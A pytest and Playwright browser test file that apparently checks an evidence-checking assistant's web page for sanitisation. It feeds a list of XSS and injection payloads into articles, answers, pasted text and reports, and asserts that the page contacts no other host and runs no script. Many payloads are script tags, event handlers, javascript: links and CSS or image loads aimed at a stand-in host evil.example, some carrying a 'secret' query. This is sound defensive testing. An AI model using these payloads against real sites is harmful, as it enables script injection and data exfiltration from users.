"""A canary: whatever an article, a model or a pasted text contains, the page asks no other host."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from evaluation.fakes import ParagraphRetriever, QuotingAssistant, WordProver
from web.fakes import ARTICLES, FakeBackend, Line, hits

from assistant.answer_json import CheckedJson, SentenceJson
from assistant.evaluation.journal import Journal
from assistant.evaluation.questions import Question, QuestionSet
from assistant.evaluation.report import report_html, write_report
from assistant.evaluation.run import Subject, evaluate
from assistant.evaluation.runner import AssistantAsker
from assistant.types import Answer, Article, Citation, Conflict, ConflictSide, Passage, Quote

from .conftest import Served, Visit

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

EVIL = "http://evil.example"
HOSTILE = [
    f'<img src="{EVIL}/img.png">',
    f"![picture]({EVIL}/markdown.png?q=secret)",
    f"![picture][ref]\n\n[ref]: {EVIL}/reference.png",
    f"[click here]({EVIL}/link)",
    f"<{EVIL}/auto>",
    f"<script src={EVIL}/script.js></script>",
    "<script>window.hacked = 1; alert(1)</script>",
    '<img src=x onerror="window.hacked = 2; alert(2)">',
    '<svg onload="window.hacked = 3"><use href="//evil.example/x.svg#a"/></svg>',
    "[js](javascript:window.hacked=4)",
    f'<div style="background:url({EVIL}/css.png)">x</div>',
    f'<style>@import "{EVIL}/style.css"; body {{ display: none }}</style>',
    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<link rel="stylesheet" href="{EVIL}/sheet.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<form action="{EVIL}/form"><input name=a autofocus onfocus="window.hacked = 5"></form>',
    f'<video poster="{EVIL}/poster.png" src="{EVIL}/video.mp4"></video>',
    f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
    '"><img src=//evil.example/attribute.png onerror=window.hacked=6>',
    "' onmouseover='window.hacked=7' x='",
    "{{7*7}} {% raw %} ${window.hacked = 8} </textarea></template><img src=//evil.example/template.png>",
    "```html\n<img src=//evil.example/fence.png>\n```",
    f"| a | b |\n|---|---|\n| ![t]({EVIL}/table.png) | <img src={EVIL}/cell.png> |",
    f'<base href="{EVIL}/base/"><a href="relative">x</a>',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22window.hacked=10%22/>">',
    f"<p style=\"background-image:url('{EVIL}/quoted.png')\">x</p>",
    f"<style>.answer {{ background: url({EVIL}/answer.png) }} @font-face {{ font-family: x; src: url({EVIL}/font.woff) }}</style>",
    f'<math><mtext><img src={EVIL}/math.png></mtext></math><svg><image href="{EVIL}/svg.png"/></svg>',
    f"[![nested]({EVIL}/nested.png)]({EVIL}/nested)",
    "[data](data:text/html,<script>window.hacked=11</script>) [vb](VBSCRIPT:x) [tab](java\tscript:window.hacked=12)",
    f"![a](\n{EVIL}/split.png\n) ![b][b]\n[b]: <{EVIL}/angle.png>",
    f"{EVIL}/bare www.evil.example/bare user@evil.example",
    f'<a href="{EVIL}/ping" ping="{EVIL}/pinged">x</a><link rel="prefetch" href="{EVIL}/prefetch">',
    "&lt;img src=//evil.example/entity.png&gt; &#60;img src=//evil.example/number.png&#62;",
    "\U000f0000\ue001<img src=//evil.example/marks.png>\U00100000",
    "$$\\href{http://evil.example/katex}{x} \\includegraphics{http://evil.example/katex.png}$$",
]
TEXT = "\n\n".join(HOSTILE)
ACTING = """() => [
  ...document.querySelectorAll('.turns *, .welcome *, #past *, #sources *, #reader *')].filter((e) =>
  /^(img|script|style|link|iframe|object|embed|video|audio|form|input|meta|use|base)$/i.test(e.tagName)
    && !e.matches('form.correction, form.correction *, #past-search')
  || [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'src'
    || (a.name === 'style' && !e.matches('.note')) || (a.name === 'href' && !/^(https?:|(text|file|export|take)\\?)/.test(a.value)))
).map((e) => e.outerHTML.slice(0, 200))"""
"""Elements that could fetch, run or send something."""


@pytest.fixture
def hostile(served: Served):  # type: ignore[no-untyped-def]
    """The desk with an article, an answer and a check that try everything."""
    backend = served.backend
    article = Article(
        name='x"><img src=//evil.example/name.png>.md', text=TEXT, title=f"Title {HOSTILE[0]} {HOSTILE[6]}",
        language='fr" onload="x', digest="2" * 64, published=date(2025, 1, 1), publisher=HOSTILE[7],
        author=HOSTILE[8], url="javascript:window.hacked=9",
    )  # fmt: skip
    quotes = [
        Quote(article.name, TEXT.index(words), TEXT.index(words) + len(words), words, 2) for words in HOSTILE
    ]
    hit = replace(
        hits()[0], rank=3, passage=Passage("p3", article.name, 0, len(TEXT), HOSTILE[0]), text=TEXT,
        title=article.title, publisher=article.publisher, url=article.url, language=article.language,
        also_in=(HOSTILE[7],),
    )  # fmt: skip
    lines = [
        Line(words, "supported", (quote,), before="\n\n")
        for words, quote in zip(HOSTILE, quotes, strict=True)
    ]
    lines += [Line(words, "unsupported", (), (words,), (quotes[0],), "\n\n") for words in HOSTILE]
    lines += [Line(words, "partial", (quotes[1],), (words,), (quotes[2],), " ") for words in HOSTILE]
    found = backend.found
    backend.found = (*hits(), hit)
    backend.scripts["hostile"] = lines
    backend.articles_by_name[article.name] = article
    backend.checked = lambda text: _check(text, quotes, hit.title)
    thought, rework = backend.thought, backend.rework
    backend.thought, backend.rework = TEXT, _everywhere
    yield backend
    backend.found, backend.checked, backend.thought, backend.rework = found, None, thought, rework
    backend.scripts.clear()
    backend.articles_by_name = dict(ARTICLES)


def _everywhere(answer: Answer) -> Answer:
    """The answer with hostile text wherever it shows any; what is cited stays what it is."""
    if "hostile" not in answer.question:
        return answer
    sides = tuple(ConflictSide(words, 1, date(2025, 1, 1 + day % 28)) for day, words in enumerate(HOSTILE, 1))
    return replace(
        answer, warnings=tuple(HOSTILE), conflicts=(Conflict(TEXT, sides),), model=HOSTILE[0], search_text=TEXT,
        embedder=HOSTILE[6],
    )  # fmt: skip


def _check(text: str, quotes: list[Quote], title: str) -> CheckedJson:
    cited = [
        Citation(n, quote, title, None, "data:text/html,x").as_json() for n, quote in enumerate(quotes, 1)
    ]
    nearest = [quotes[0].as_json()]
    sentence: SentenceJson = {
        "start": 0,
        "end": len(text),
        "citations": [1],
        "verdict": "unsupported",
        "reasons": HOSTILE,
        "nearest": nearest,
        "probability": None,
        "differences": [
            {"start": 0, "end": 40, "source": HOSTILE[6]},
            {"start": 50, "end": 60, "source": HOSTILE[0]},
        ],
    }
    sides = (ConflictSide(HOSTILE[7], 1), ConflictSide(HOSTILE[6], 2))
    conflict = Conflict(HOSTILE[0], sides).as_json()
    return {
        "text": text,
        "language": "fr",
        "sentences": [sentence],
        "citations": cited,
        "conflicts": [conflict],
    }


def assert_harmless(seen: Visit) -> None:
    page = seen.page
    page.wait_for_timeout(500)
    hosts = {urlsplit(url).hostname for url in seen.requests if not url.startswith(("data:", "blob:"))}
    assert hosts == {"127.0.0.1"}
    assert seen.complaints == []
    assert seen.refused == [], "nothing was even tried"
    assert page.url.startswith("http://127.0.0.1:")
    assert page.evaluate("window.hacked") is None
    found = page.evaluate(ACTING)
    assert found == []


def test_a_hostile_article_and_answer(visit: Callable[..., Visit], hostile: object) -> None:
    seen = visit()
    seen.ask_to_the_end(f"hostile {HOSTILE[0]} {HOSTILE[7]}")
    page = seen.page
    assert page.locator("#conversation .citation").count() > 10
    page.locator("#sources details").evaluate_all("all => all.forEach(d => d.open = true)")
    page.locator("#conversation details").evaluate_all("all => all.forEach(d => d.open = true)")
    page.locator(".answer .citation").first.click()
    page.locator("#reader mark.cited").first.wait_for()
    assert page.locator("#reader mark.cited").first.inner_text() == HOSTILE[0]
    assert HOSTILE[6] in page.locator("#reader .text").inner_text()
    page.locator(".answer .sentence.partial[tabindex]").first.focus()
    assert_harmless(seen)
    page.locator("#past summary").click()
    page.locator("#past li button").first.wait_for()
    assert_harmless(seen)
    page.locator("#past li button").first.click()
    page.locator('.turn[data-state="done"]').first.wait_for()
    assert_harmless(seen)


def test_every_link_of_a_hostile_answer_is_plain(visit: Callable[..., Visit], hostile: object) -> None:
    seen = visit()
    seen.ask_to_the_end("hostile")
    links = seen.page.locator(".turns a, #sources a, #reader a").evaluate_all("all => all.map(a => a.href)")
    assert {urlsplit(link).hostname for link in links} <= {"journal.example", "127.0.0.1"}
    seen.page.locator(".copy").first.click()
    assert_harmless(seen)


def test_a_hostile_refusal(visit: Callable[..., Visit], hostile: FakeBackend) -> None:
    seen = visit()
    hostile.found = hostile.found[2:]
    seen.ask_to_the_end(f"refuse {TEXT}"[:2000])  # the longest question that is taken
    assert seen.page.locator(".refusal blockquote").count() == 2
    assert_harmless(seen)


def test_a_hostile_report(browser: Browser, tmp_path: Path) -> None:
    """The page of an evaluation is opened from the disk, where no header guards it: it must be harmless by itself."""
    questions = tuple(
        Question(f"q{n}", words, n, "en", (words,), (f"{n}<img src=//evil.example/x>.md",), True)
        for n, words in enumerate(HOSTILE, 1)
    )
    texts = {question.articles[0]: question.question for question in questions}
    retriever = ParagraphRetriever(texts)
    subject = Subject(
        "evidence", retriever, AssistantAsker(QuotingAssistant(retriever), texts.get, require_model=False),
        Journal(tmp_path / "answers.jsonl", "run", questions), WordProver(), dict.fromkeys(texts, "en"),
        {"embedder": {"name": HOSTILE[0]}}, {"corpus": HOSTILE[6]},
    )  # fmt: skip
    run = evaluate(subject, QuestionSet(questions))
    write_report(tmp_path / "report.html", report_html(run, questions, texts.get, HOSTILE[0]))
    asked: list[str] = []
    page = browser.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.goto((tmp_path / "report.html").as_uri())
    page.locator("details").evaluate_all("all => all.forEach(d => d.open = true)")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert {urlsplit(url).scheme for url in asked} <= {"file", "data"}
    assert len([url for url in asked if url.startswith("file")]) == 1
    page.close()


def test_a_hostile_pasted_text(visit: Callable[..., Visit], hostile: object) -> None:
    seen = visit()
    seen.page.get_by_role("tab", name="Vérifier un texte").click()
    seen.page.fill("#check-text textarea", TEXT)
    seen.page.click("#check")
    seen.page.locator("#checked .sentence.unsupported").first.wait_for()
    seen.page.locator("#checked .citation").first.click()
    seen.page.locator("#reader mark.cited").first.wait_for()
    assert_harmless(seen)


def test_only_plain_addresses_can_be_followed(visit: Callable[..., Visit]) -> None:
    seen = visit()
    seen.ask_to_the_end("budget")
    links = seen.page.locator("#sources a, #reader a, #conversation a:not([download])")
    assert {link.get_attribute("href") for link in links.all()} == {"https://journal.example/2024/budget?x=1"}
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}


def test_the_page_itself_asks_only_this_machine(visit: Callable[..., Visit]) -> None:
    seen = visit()
    seen.page.wait_for_timeout(1000)
    assert_harmless(seen)
